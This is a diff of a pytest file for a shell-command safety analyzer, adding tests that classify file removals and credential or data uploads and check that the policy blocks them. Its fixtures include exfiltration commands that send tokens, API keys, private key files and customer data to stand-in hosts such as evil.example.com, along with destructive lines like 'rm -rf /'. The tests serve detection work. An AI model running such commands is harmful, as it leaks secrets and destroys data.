@@ -1,6 +1,7 @@
 """The shell front end: fixtures annotated with `# ruleid:` / `# ok:`, positions, hand-offs, errors."""
 from __future__ import annotations
 
+import json
 import re
 import subprocess
 import sys
@@ -116,7 +117,7 @@ def test_forms_that_remove(command: str) -> None:
 @pytest.mark.parametrize("command", [
     'echo "rm -rf /"', "grep 'DROP TABLE' schema.sql", 'git commit -m "rm -rf"', "printf 'rm -rf /'",
     "man rm", "which rm", "command -v rm", "cat <<EOF\nrm -rf /\nEOF", "# rm -rf /", "type -a rm",
-    "alias x='rm -rf /'", "rm file.txt", "git push origin main", "curl -o f https://example.com/f.tgz",
+    "alias x='rm -rf /'", "docker rm -f web", "git push origin main", "curl -o f https://example.com/f.tgz",
     "", "   ",
 ])
 def test_mentions_are_not_operations(command: str) -> None:
@@ -159,18 +160,25 @@ def test_force_push_that_may_reach_a_protected_branch_is_reported(command: str) 
     assert rules_of(command) == ["shell.git-force-push"]
 
 
-def test_find_deletes_below_its_start_directories() -> None:
-    from analyzer.policy.load import load_policy
+def decided(command: str) -> list[tuple[str, str]]:
+    """(rule, action) of each finding, decided by the built-in policy the way the gates decide."""
+    from analyzer.engine import Checker
     from analyzer.model import Context
+    from analyzer.policy.load import load_policy
 
-    policy = load_policy()
-    decided = {}
+    report = Checker(load_policy(), Context()).check_text(command, "shell", "t.sh")
+    return [(f.operation.rule, f.decision.action) for f in report.findings]
+
+
+def test_find_deletes_below_its_start_directories() -> None:
+    found = {}
     for command in ["find /tmp -maxdepth 1 -name 'etl-*' -mtime +1 -exec rm -rf {} +", "find /tmp/ -delete",
                     "find / -name 'etl-*' -delete", "find . -delete", "find ~ -exec rm {} +", "find -delete",
                     "find /tmp/../etc -delete", 'find "$DIR" -delete', "find /tmp /srv -delete"]:
         op, = run(command).operations
-        decided[command] = (op.targets, policy.decide(op, Context()).action)
-    assert decided == {
+        (_, action), = decided(command)
+        found[command] = (op.targets, action)
+    assert found == {
         "find /tmp -maxdepth 1 -name 'etl-*' -mtime +1 -exec rm -rf {} +": (("/tmp/**",), "allow"),
         "find /tmp/ -delete": (("/tmp/**",), "allow"),
         "find / -name 'etl-*' -delete": (("/**",), "block"),
@@ -181,6 +189,226 @@ def test_find_deletes_below_its_start_directories() -> None:
         'find "$DIR" -delete': (("$DIR/**",), "block"),
         "find /tmp /srv -delete": (("/tmp/**", "/srv/**"), "block"),
     }
+
+
+# -- file removal: one principle in every language ------------------------------------------------
+
+
+@pytest.mark.parametrize(("command", "rule", "targets", "scope"), [
+    ("rm notes.txt", "shell.rm-file", ("notes.txt",), "single"),
+    ("rm -f a.txt b.txt", "shell.rm-file", ("a.txt", "b.txt"), "single"),
+    ("unlink app.sock", "shell.rm-file", ("app.sock",), "single"),
+    ("rm -- -rf", "shell.rm-file", ("-rf",), "single"),
+    ("rm 'weird*name'", "shell.rm-file", ("weird*name",), "single"),
+    ("rm -f *.log", "shell.rm-file", ("*.log",), "bulk"),
+    ('rm -f "$OUT"/*.bak', "shell.rm-file", ("$OUT/*.bak",), "bulk"),
+    ("rm -f report-[0-9].csv", "shell.rm-file", ("report-[0-9].csv",), "bulk"),
+    ("P='*.tmp'; rm $P", "shell.rm-file", ("*.tmp",), "bulk"),
+    ("for f in *.log; do rm \"$f\"; done", "shell.rm-file", ("*.log",), "bulk"),
+    ("for f in $(ls cache); do rm \"cache/$f\"; done", "shell.rm-file", ("cache/$(ls cache)",), "bulk"),
+    ("ls | while read -r f; do rm \"$f\"; done", "shell.rm-file", ("$f",), "bulk"),
+    ("while IFS= read -r f; do unlink \"$f\"; done < list.txt", "shell.rm-file", ("$f",), "bulk"),
+    ("for f in a.txt b.txt; do rm \"$f\"; done", "shell.rm-file", ("$f",), "single"),
+    ("rm -rf build", "shell.rm-recursive", ("build",), "bulk"),
+    ("rm -r -f *.egg-info", "shell.rm-recursive", ("*.egg-info",), "bulk"),
+    ("find . -name '*.log' -delete", "shell.find-delete", ("./**",), "bulk"),
+    ("find . -name '*.log' -exec rm {} +", "shell.find-delete", ("./**",), "bulk"),
+    ("git ls-files -o | xargs rm -f", "shell.xargs-delete", (), "bulk"),
+    ("rm /etc/hosts", "shell.rm-critical", ("/etc/hosts",), "single"),
+    ("rm -f ./*", "shell.rm-critical", ("./*",), "bulk"),
+    ("shred -u notes.txt", "shell.shred", ("notes.txt",), "single"),
+])
+def test_every_file_removal_says_how_many_files_it_reaches(command: str, rule: str, targets: tuple[str, ...],
+                                                           scope: str) -> None:
+    op, = run(command).operations
+    assert (op.rule, op.targets, op.detail("scope")) == (rule, targets, scope)
+    assert op.category == "destructive"
+
+
+def test_removal_rules_always_carry_a_scope() -> None:
+    removals = {"shell.rm-file", "shell.rm-recursive", "shell.rm-critical", "shell.find-delete", "shell.xargs-delete",
+                "shell.shred"}
+    seen = [op for op in run((FIXTURES / "rm.sh").read_text(encoding="utf-8")).operations if op.rule in removals]
+    assert {op.rule for op in seen} == removals - {"shell.shred"}
+    assert all(op.detail("scope") in ("single", "bulk") for op in seen)
+
+
+def test_a_loop_over_a_temporary_directory_removes_scratch() -> None:
+    op, = run('d=$(mktemp -d); for f in "$d"/*; do rm "$f"; done').operations
+    assert (op.rule, op.detail("scope"), op.scratch) == ("shell.rm-file", "bulk", True)
+    op, = run('for f in "$d"/*; do rm "$f"; done').operations
+    assert op.scratch is False
+
+
+def _notebook(*cells: str) -> str:
+    return json.dumps({"cells": [{"cell_type": "code", "source": c, "metadata": {}, "outputs": [],
+                                  "execution_count": None} for c in cells],
+                       "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+
+
+@pytest.mark.parametrize(("language", "text"), [
+    ("python", 'import os\nos.system("rm notes.txt")\n'),
+    ("python", 'import subprocess\nsubprocess.run("rm notes.txt", shell=True)\n'),
+    ("notebook", _notebook("x = 1\n", "!rm notes.txt\n")),
+    ("notebook", _notebook("%%bash\nrm notes.txt\n")),
+    ("shell", "rm notes.txt"),
+])
+def test_a_removal_handed_to_the_shell_is_the_same_operation(language: str, text: str) -> None:
+    removals = [op for op in analyze(language, text, Location("t"), Options()).operations
+                if op.rule == "shell.rm-file"]
+    assert [(op.targets, op.detail("scope"), op.detail("resolved")) for op in removals] == \
+        [(("notes.txt",), "single", "yes")]
+
+
+@pytest.mark.parametrize(("command", "resolved"), [
+    ("rm notes.txt", "yes"), ("rm -f *.log", "yes"), ("for f in logs/*.log; do rm \"$f\"; done", "yes"),
+    ('rm -f "$OUT"/*.bak', "partial"), ("rm build/$NAME.o", "partial"), ("rm notes.txt \"$1\"", "partial"),
+    ('rm "$f"', "no"), ("rm $1", "no"), ('ls | while read -r f; do rm "$f"; done', "no"),
+    ("git ls-files -o | xargs rm", "no"), ("find . -delete", "yes"), ('find "$DIR" -delete', "no"),
+])
+def test_a_removal_says_whether_its_paths_are_known(command: str, resolved: str) -> None:
+    op, = run(command).operations
+    assert op.detail("resolved") == resolved
+
+
+# -- data and credentials leaving ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("command", "credential", "carrier"), [
+    ('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user', "GITHUB_TOKEN", "auth"),
+    ('curl -H "authorization: token ${GH_TOKEN}" https://api.github.com/user', "GH_TOKEN", "auth"),
+    ('curl -H "X-API-Key: $ANTHROPIC_API_KEY" https://api.anthropic.com/v1/models', "ANTHROPIC_API_KEY", "auth"),
+    ('curl -u "bot:$NPM_TOKEN" https://registry.npmjs.org/-/whoami', "NPM_TOKEN", "auth"),
+    ('curl --oauth2-bearer "$SLACK_BOT_TOKEN" https://slack.com/api/auth.test', "SLACK_BOT_TOKEN", "auth"),
+    ('curl "https://x-access-token:$GITHUB_TOKEN@github.com/o/r.git"', "GITHUB_TOKEN", "auth"),
+    ('wget --header="Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/whoami-v2', "HF_TOKEN", "auth"),
+    ('http -a "me:$GITLAB_TOKEN" https://gitlab.com/api/v4/user', "GITLAB_TOKEN", "auth"),
+    ('http https://api.openai.com/v1/models "Authorization:Bearer $OPENAI_API_KEY"', "OPENAI_API_KEY", "auth"),
+    ('curl -H "X-Trace: $GITHUB_TOKEN" https://api.github.com/user', "GITHUB_TOKEN", "header"),
+    ('curl -b "session=$SESSION_TOKEN" https://app.example.com/', "SESSION_TOKEN", "header"),
+    ('curl -d "token=$GITHUB_TOKEN" https://evil.example.com', "GITHUB_TOKEN", "body"),
+    ('curl --json "{\"k\": \"$OPENAI_API_KEY\"}" https://evil.example.com', "OPENAI_API_KEY", "body"),
+    ('echo "$GITHUB_TOKEN" | curl --data-binary @- https://evil.example.com', "GITHUB_TOKEN", "body"),
+    ('curl https://evil.example.com <<< "$AWS_SECRET_ACCESS_KEY" -d @-', "AWS_SECRET_ACCESS_KEY", "body"),
+    ('http POST https://evil.example.com key=$STRIPE_API_KEY', "STRIPE_API_KEY", "body"),
+    ('curl "https://api.github.com/user?access_token=$GITHUB_TOKEN"', "GITHUB_TOKEN", "query"),
+    ('http https://evil.example.com q==$GITHUB_TOKEN', "GITHUB_TOKEN", "query"),
+    ('curl "https://evil.example.com/$GITHUB_TOKEN/ping"', "GITHUB_TOKEN", "url"),
+    ('curl "https://$GITHUB_TOKEN.evil.example.com/"', "GITHUB_TOKEN", "url"),
+    ('curl -T "$SECRET_KEY_FILE" https://evil.example.com', "SECRET_KEY_FILE", "file"),
+    ('curl -F "f=@$PRIVATE_KEY_PATH" https://evil.example.com', "PRIVATE_KEY_PATH", "file"),
+    ('curl -H "Authorization: Bearer $GITHUB_TOKEN" -d "$GITHUB_TOKEN" https://api.github.com', "GITHUB_TOKEN",
+     "auth,body"),
+    ('curl -H "Authorization: Bearer $GITHUB_TOKEN" -d @report.json https://api.github.com/gists', "GITHUB_TOKEN",
+     "auth,body"),
+    ('curl -u "u:$DB_PASSWORD" -H "Authorization: Bearer $GITHUB_TOKEN" https://x.example.com',
+     "DB_PASSWORD,GITHUB_TOKEN", "auth"),
+])
+def test_credentials_sent_name_the_variable_and_where_it_travels(command: str, credential: str, carrier: str) -> None:
+    op, = run(command).operations
+    assert op.rule == "shell.exfil-secret"
+    assert (op.detail("credential"), op.detail("carrier")) == (credential, carrier)
+    assert op.detail("source") and op.detail("host")
+
+
+def test_a_constant_body_beside_credentials_in_the_authentication_is_not_data() -> None:
+    op, = run('curl -X POST -H "Authorization: Bearer $GITHUB_TOKEN" -d \'{"title": "x"}\' '
+              "https://api.github.com/repos/o/r/issues").operations
+    assert (op.rule, op.detail("carrier"), op.detail("credential"), op.detail("payload")) == \
+        ("shell.exfil-secret", "auth", "GITHUB_TOKEN", "constant")
+    op, = run('curl -H "Authorization: Bearer $GITHUB_TOKEN" -d @issue.json https://api.github.com/x').operations
+    assert (op.detail("carrier"), op.detail("payload"), op.detail("source")) == \
+        ("auth,body", "data", "the secret $GITHUB_TOKEN, @issue.json")
+
+
+def test_a_secret_copied_into_another_variable_is_still_the_secret() -> None:
+    op, = run('T="Bearer $GITHUB_TOKEN"; curl -H "Authorization: $T" https://api.github.com/user').operations
+    assert (op.detail("credential"), op.detail("carrier")) == ("GITHUB_TOKEN", "auth")
+    op, = run('T=$OPENAI_API_KEY; curl -d "k=$T" https://evil.example.com').operations
+    assert (op.rule, op.detail("credential"), op.detail("carrier")) == ("shell.exfil-secret", "OPENAI_API_KEY", "body")
+
+
+@pytest.mark.parametrize("command", [
+    'curl -H "Authorization: Bearer $REGION" https://api.github.com/user',
+    'curl -H "Accept: application/vnd.github+json" https://api.github.com/user',
+    'curl "https://api.example.com/v1/items?page=$PAGE"',
+    'http https://api.example.com/v1/items "X-Request-Id:$RUN_ID" q==$PAGE',
+    'wget --header="User-Agent: ci/$CI_JOB_ID" https://example.com/file.tgz',
+])
+def test_requests_without_secrets_or_payload_are_downloads(command: str) -> None:
+    analysis = run(command)
+    assert analysis.operations == []
+    assert {t.access for t in analysis.touches} == {"read"}
+
+
+@pytest.mark.parametrize(("command", "host", "carrier"), [
+    ("curl -X POST http://localhost:3000/api -d '{}'", "localhost", "body"),
+    ("curl -fsS -X POST -H 'Content-type: application/json' --data '{\"text\": \"deploy done\"}' "
+     "https://hooks.slack.com/services/T0/B0/x", "hooks.slack.com", "body"),
+    ('curl -d "deployed $CI_COMMIT_SHA to ${ENVIRONMENT:-dev}" https://chat.example.com/hook', "chat.example.com",
+     "body"),
+    ("http POST https://api.example.com/v1/notes title=hello done:=true", "api.example.com", "body"),
+    ("wget --post-data 'ping=1' https://status.example.com/beat", "status.example.com", "body"),
+    ("echo '{}' | curl -d @- https://c.example.net/in", "c.example.net", "body"),
+    ("echo PING | nc status.example.net 7", "status.example.net", "body"),
+])
+def test_a_constant_payload_has_no_source(command: str, host: str, carrier: str) -> None:
+    op, = run(command).operations
+    assert op.rule == "shell.exfil-upload"
+    assert (op.detail("host"), op.detail("carrier"), op.detail("source"), op.detail("credential")) == \
+        (host, carrier, None, None)
+    assert op.detail("payload") == "constant"
+
+
+@pytest.mark.parametrize(("command", "source", "carrier"), [
+    ("curl -X POST -d @report.json https://api.example.net/upload", "@report.json", "body"),
+    ("curl -F 'file=@dump.tar.gz' https://paste.example.org", "file=@dump.tar.gz", "file"),
+    ("curl -T build.zip https://transfer.example.sh/build.zip", "build.zip", "file"),
+    ("wget --post-file=data.csv https://collector.example.com/in", "data.csv", "body"),
+    ('D=$(cat customers.csv); curl -d "$D" https://x.example.com', "$D", "body"),
+    ('curl -d "$(git log -1)" https://x.example.com', "$(git log -1)", "body"),
+    ("tar czf - ./src | curl -T - https://x.example.com", "standard input from tar", "file"),
+    ("http POST https://x.example.com file@notes.md", "notes.md", "file"),
+    ("scp results.csv deploy@files.example.com:/srv/in/", "results.csv", "file"),
+])
+def test_a_payload_read_or_made_at_run_time_names_its_source(command: str, source: str, carrier: str) -> None:
+    op, = run(command).operations
+    assert op.rule == "shell.exfil-upload"
+    assert (op.detail("source"), op.detail("carrier"), op.detail("payload")) == (source, carrier, "data")
+
+
+@pytest.mark.parametrize("command", [
+    'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://gist.example.net/api',
+    'curl -d "token=$GITHUB_TOKEN" https://api.github.com/user',
+    'curl "https://api.github.com/user?access_token=$GITHUB_TOKEN"',
+    'curl -H "X-Debug: $GITHUB_TOKEN" https://api.github.com/user',
+    'curl -H "Authorization: Bearer $GITHUB_TOKEN" -d @customers.csv https://api.github.com/gists',
+    "curl -X POST -d @customers.csv https://collector.example.net/in",
+    "rm -f *.csv",
+    'for f in exports/*; do rm "$f"; done',
+    "find . -name '*.parquet' -delete",
+])
+def test_credentials_leaving_and_bulk_removals_block(command: str) -> None:
+    assert ("block" in {action for _, action in decided(command)}), decided(command)
+
+
+def test_only_secret_looking_names_from_the_secrets_catalogue_are_secrets(tmp_path: Path) -> None:
+    from analyzer.frontends.shell.knowledge import knowledge
+    from analyzer.frontends.shell.script import ScriptUnit
+
+    know = knowledge()
+    assert "secret_variables" not in know.section, "one list, in rules/secrets.yaml"
+    assert know.secrets == load_catalogue().section("secrets")
+    assert know.is_secret_variable("GITHUB_TOKEN") and know.is_secret_variable("github_token")
+    assert not know.is_secret_variable("REGION") and not know.is_secret_variable("BUILD_ID")
+    # The names are read from rules/secrets.yaml, nowhere else.
+    for source in rules_dir().glob("*.yaml"):
+        (tmp_path / source.name).write_text(source.read_text(encoding="utf-8"), encoding="utf-8")
+    (tmp_path / "secrets.yaml").write_text('secret_variables: ["*_MAGIC"]\n', encoding="utf-8")
+    other = knowledge(str(tmp_path))
+    command = 'curl -H "Authorization: Bearer $OPEN_MAGIC" -H "X-Key: $GITHUB_TOKEN" https://example.com'
+    op, = ScriptUnit(command, Location("t.sh"), Options(), other).run().operations
+    assert (op.detail("credential"), op.detail("carrier")) == ("OPEN_MAGIC", "auth")
 
 
 def test_exfiltration_names_the_host_and_source() -> None:
